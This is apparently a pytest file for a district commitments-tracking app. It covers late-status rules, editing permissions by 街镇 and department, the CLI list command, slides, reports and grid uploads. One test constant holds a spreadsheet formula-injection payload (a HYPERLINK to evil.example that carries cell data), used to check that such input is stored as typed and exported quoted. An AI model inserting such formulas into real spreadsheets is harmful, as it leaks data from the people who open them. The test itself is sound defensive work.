"""承诺事项: the reply's commitments seeded under its file number, which are late (known
answers), who may update which (a 街镇 editor only their 街镇's, never a department's),
the list command, the page and the briefing slide."""

from __future__ import annotations

import html
import io
from datetime import date

import pandas as pd
import pytest
from pptx import Presentation

from indicators import auth
from indicators.builtin import datasets
from indicators.domain import commitments, queries
from indicators.exports import deck
from indicators.intake import checks, files, loading
from tests.conftest import query
from tests.intake_files import csv_bytes
from tests.test_data_pages import open_page
from tests.test_load import cli

TODAY = date(2026, 12, 1)


def _frame(**rows) -> pd.DataFrame:
    base = {"scope_code": None, "department": "fgw", "due_on": None, "status": None}
    return pd.DataFrame([{**base, "commitment_id": k, **v} for k, v in rows.items()])


def test_late_is_delayed_or_past_due_and_not_done():
    frame = commitments.with_late(
        _frame(
            a={"status": "delayed"},
            b={"status": "in_progress", "due_on": date(2026, 11, 30)},
            c={"status": "done", "due_on": date(2026, 1, 1)},
            d={"status": "not_started", "due_on": TODAY},  # due today: not late yet
            e={"status": "in_progress"},  # no due date: never late by date
            f={"status": None, "due_on": date(2026, 6, 30)},
        ),
        TODAY,
    ).set_index("commitment_id")
    assert frame["late"].to_dict() == {
        "a": True, "b": True, "c": False, "d": False, "e": False, "f": True,
    }  # fmt: skip
    n = commitments.counts(frame)
    assert (n["late"], n["done"], n["unreported"], n["in_progress"]) == (3, 1, 1, 2)


def test_owners_sort_departments_first_and_filters_keep_what_they_say():
    frame = commitments.with_late(
        _frame(
            s={"department": None, "scope_code": "xinjing", "status": "delayed"},
            d={"department": "swj", "status": "done"},
            h={"department": None, "scope_code": "hongqiao", "status": "in_progress"},
        ),
        TODAY,
    )
    assert frame["owner"].tolist() == ["swj", "hongqiao", "xinjing"]
    assert commitments.choose(frame, "street")["owner"].tolist() == ["hongqiao", "xinjing"]
    assert commitments.choose(frame, statuses=["done"])["owner"].tolist() == ["swj"]
    assert commitments.choose(frame, late_only=True)["owner"].tolist() == ["xinjing"]
    assert commitments.choose(frame, owner_code="hongqiao")["commitment_id"].tolist() == ["h"]


def test_the_seed_holds_the_replys_commitments_and_only_the_tracking_is_illustrative():
    real = datasets.commitments(demo=False)
    assert set(real["source"]) == {"长发改〔2025〕17号"}
    assert not real["is_demo"].any() and real["status"].isna().all()
    owners = real["scope_code"].fillna(real["department"])
    by_text = dict(zip(real["promise"], owners, strict=True))
    for words, owner in [
        ("临空低碳发展实践区", "xinjing"),
        ("虹桥下午茶", "hongqiao"),
        ("沿街商铺低碳商圈", "beixinjing"),
        ("碳交易", "chengjiaqiao"),
        ("低碳产业集群发展专项规划", "xinjing"),
        ("双D", "dtzx"),
        ("光伏建设年度方案", "fgw"),
    ]:
        assert [o for text, o in by_text.items() if words in text] == [owner], words
    demo = datasets.commitments(demo=True)
    assert demo["is_demo"].all() and demo["status"].notna().all()
    assert (demo["promise"] == real["promise"]).all()


def test_demo_remove_keeps_the_promises_and_clears_their_illustrative_tracking(work_db):
    assert cli("demo", "remove").returncode == 0
    rows = query(work_db, "select count(*), count(status), bool_or(is_demo) from commitments")
    assert rows == [(11, 0, False)]


def test_the_list_command_prints_every_commitment(work_db):
    done = cli("commitments", "list", "--format", "csv", "--lang", "en")
    assert done.returncode == 0, done.stderr
    frame = pd.read_csv(io.StringIO(done.stdout), dtype=str, keep_default_na=False)
    assert len(frame) == 11
    assert {"commitment_id", "owner", "promise", "status", "late", "source"} <= set(frame)
    assert set(frame["illustrative"]) == {"yes"}
    assert "Linkong" in " ".join(frame["promise"])
    assert cli("commitments", "list").returncode == 0


def _load(rows, allowed):
    data = csv_bytes(rows)
    checked = checks.check(files.read_upload(data, "c.csv", kind="commitments"), allowed)
    if not checked.ok:
        return checked.problems
    try:
        loading.load(
            checked, editor="x", file_name="c.csv", data=data, replace=True,
            allowed_scopes=allowed,
        )  # fmt: skip
    except loading.LoadRefused as refused:
        return refused.problems
    return []


HEAD = ["事项编号", "责任街镇", "责任部门", "承诺事项", "进展状态", "佐证材料"]


def test_a_street_editor_updates_only_their_own_commitments(work_db):
    hq = {"hongqiao"}
    own = [HEAD, ["C08", "虹桥", "", "打造虹桥下午茶", "已完成", "第3期沙龙纪要"]]
    assert _load(own, hq) == []
    c08 = "select status, evidence, is_demo from commitments where commitment_id = 'C08'"
    assert query(work_db, c08) == [("done", "第3期沙龙纪要", False)]
    # a department's commitment, as it is or taken over: refused, nothing written
    before = query(work_db, "select * from commitments order by commitment_id")
    departments = [HEAD, ["C01", "", "区发改委", "年度方案", "已完成", ""]]
    assert [p.key for p in _load(departments, hq)] == ["department_not_allowed"]
    taken = [HEAD, ["C01", "虹桥", "", "年度方案", "已完成", ""]]
    assert [p.key for p in _load(taken, hq)] == ["scope_not_allowed_before"]
    given_away = [HEAD, ["C08", "新泾镇", "", "打造虹桥下午茶", "已完成", ""]]
    assert [p.key for p in _load(given_away, hq)] == ["scope_not_allowed"]
    assert query(work_db, "select * from commitments order by commitment_id") == before
    # a file with no department column at all, as a 街镇 keeps it: checked, not a traceback
    no_department = [
        ["编号", "街镇", "承诺事项", "进展"],
        ["C08", "虹桥街道", "打造虹桥下午茶", "推进中"],
        ["C06", "新泾镇", "配合制定专项规划", "已完成"],
    ]
    assert [(p.key, p.row) for p in _load(no_department, hq)] == [("scope_not_allowed", 3)]
    # one owner, never both or neither; a status is one of the four
    both = [HEAD, ["C12", "虹桥", "区发改委", "某事项", "推进中", ""]]
    assert [p.key for p in _load(both, None)] == ["one_owner"]
    odd = [HEAD, ["C12", "", "区发改委", "某事项", "差不多", ""]]
    assert [p.key for p in _load(odd, None)] == ["bad_progress"]


def test_the_deck_ends_with_what_was_promised_done_and_late():
    prs = Presentation(io.BytesIO(deck.build_deck("district", 2024, "Y", "zh")))
    slide = prs.slides[-1]
    texts = [sh.text_frame.text for sh in slide.shapes if sh.has_text_frame]
    assert texts[0] == "承诺事项进展"
    late = queries.commitments(date.today())
    assert f"逾期 {int(late['late'].sum())} 项" in texts[1]
    (table,) = [sh.table for sh in slide.shapes if sh.has_table]
    assert len(table.rows) == 1 + min(int(late["late"].sum()), commitments.LATE_ROWS)
    assert all("（示例）" in row.cells[3].text for row in list(table.rows)[1:])


def test_the_pdf_report_ends_with_the_same_commitments_page():
    from indicators.exports import report

    text = report.report_html("district", 2024, "Y", "en")
    page = commitments.briefing_page(queries.commitments(date.today()), "en")
    tail = text[text.index(page["title"]) :]
    assert page["counts"] in tail and "(illustrative)" in tail
    assert all(html.escape(row[1]) in tail for row in page["rows"])


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_page_lists_by_owner_filters_and_offers_editing_to_editors(editors, lang):
    reader = open_page("pages/commitments.py", lang=lang)
    assert len(reader.dataframe[0].value) == 11
    assert not [b for b in reader.button if b.key == "commitments_save"]
    reader.toggle(key="commitments_late").set_value(True).run()
    assert len(reader.dataframe[0].value) == int(queries.commitments(date.today())["late"].sum())
    editor = open_page("pages/commitments.py", auth.account("hq"), lang=lang)
    assert [b.key for b in editor.button] == ["commitments_save"]


# What a 街镇 types into the grid or writes in a file: a reply's own punctuation, full-width
# forms, and text a spreadsheet would run as a formula.
TYPED = "已召开第３期沙龙，纪要见（附件一）〔2026〕1号：完成率 -3.2%"
FORMULA = '=HYPERLINK("http://evil.example/"&A2,"佐证")'


def _grid_rows(work_db, **typed) -> pd.DataFrame:
    """虹桥's commitments as the grid hands them over (a 街镇's item: no department)."""
    frame = queries.commitments(date.today())
    rows = frame[frame["scope_code"].eq("hongqiao")].copy()
    for column, value in typed.items():
        rows[column] = value
    return rows


def _stored(work_db, column: str) -> list:
    return [
        v
        for (v,) in query(
            work_db,
            f"select {column} from commitments where scope_code = 'hongqiao' "
            "order by commitment_id",
        )
    ]


def _save_grid(rows: pd.DataFrame) -> list:
    data = files.form_csv("commitments", rows)
    checked = checks.check(files.read_upload(data, "grid.csv", kind="commitments"), {"hongqiao"})
    assert checked.ok, checked.problems
    loading.load(
        checked, editor="hq", file_name="grid.csv", data=data, replace=True,
        allowed_scopes={"hongqiao"},
    )  # fmt: skip
    return checked.frame


def test_a_street_grid_row_without_a_department_saves_its_text_as_typed(work_db):
    rows = _grid_rows(work_db, evidence=TYPED, status="in_progress")
    assert rows["department"].isna().all()  # the cell that raised KeyError: nan
    data = files.form_csv("commitments", rows)
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert set(frame["责任部门"]) == {""} and set(frame["责任街镇"]) == {"虹桥街道"}
    _save_grid(rows)
    assert set(_stored(work_db, "evidence")) == {TYPED}
    assert set(_stored(work_db, "status")) == {"in_progress"}


def test_all_empty_text_columns_stay_empty_and_typed_numbers_stay_text(work_db):
    # no evidence, English promise or project anywhere in the grid: NaN in every cell
    rows = _grid_rows(work_db, evidence=float("nan"), promise_en=None, project_id=None)
    _save_grid(rows)
    assert set(_stored(work_db, "evidence")) == {None}
    assert set(_stored(work_db, "promise_en")) == {None}
    before = _stored(work_db, "promise")
    _save_grid(_grid_rows(work_db, evidence="-32026"))
    assert set(_stored(work_db, "evidence")) == {"-32026"}  # text, never -32026.0
    assert _stored(work_db, "promise") == before  # the promise goes back as it was


def test_a_formula_quoted_in_the_grid_is_stored_as_typed_and_printed_quoted(work_db):
    from indicators import formulas

    _save_grid(_grid_rows(work_db, evidence=FORMULA))
    assert set(_stored(work_db, "evidence")) == {FORMULA}
    # the grid shows it quoted; saved again as shown, it is stored as it was, not '=…
    _save_grid(_grid_rows(work_db, evidence=formulas.harmless(FORMULA), status="done"))
    assert set(_stored(work_db, "evidence")) == {FORMULA}
    printed = cli("commitments", "list", "--format", "csv")
    frame = pd.read_csv(io.StringIO(printed.stdout), dtype=str, keep_default_na=False)
    assert set(frame.loc[frame["owner_code"].eq("hongqiao"), "evidence"]) == {"'" + FORMULA}


def test_an_upload_stores_free_text_as_written_and_still_matches_names_and_codes(work_db):
    head = [*HEAD, "来源"]
    source = "长发改〔2025〕１７号（补充）"
    # a full-width id and a 街镇 spelt with spaces: matched after normalisation
    row = ["Ｃ０８", " 虹桥 ", "", "打造虹桥下午茶", "推进中", TYPED, source]
    assert _load([head, row], {"hongqiao"}) == []
    c08 = "select scope_code, status, evidence, source from commitments where commitment_id = "
    assert query(work_db, c08 + "'C08'") == [("hongqiao", "in_progress", TYPED, source)]
    assert query(work_db, c08 + "'Ｃ０８'") == []


def test_the_district_grid_of_every_commitment_saves_both_kinds_of_owner(work_db):
    frame = queries.commitments(date.today()).assign(evidence=TYPED)
    data = files.form_csv("commitments", frame)  # departments' rows have no 街镇, and back
    checked = checks.check(files.read_upload(data, "grid.csv", kind="commitments"))
    assert checked.ok, checked.problems
    loading.load(checked, editor="boss", file_name="grid.csv", data=data, replace=True)
    rows = query(work_db, "select scope_code, department, evidence from commitments")
    assert {e for _, _, e in rows} == {TYPED} and len(rows) == 11
    owners = frame.set_index("commitment_id")[["scope_code", "department"]]
    stored = query(work_db, "select commitment_id, scope_code, department from commitments")
    assert {(i, s, d) for i, s, d in stored} == {
        (i, None if pd.isna(s) else s, None if pd.isna(d) else d) for i, s, d in owners.itertuples()
    }
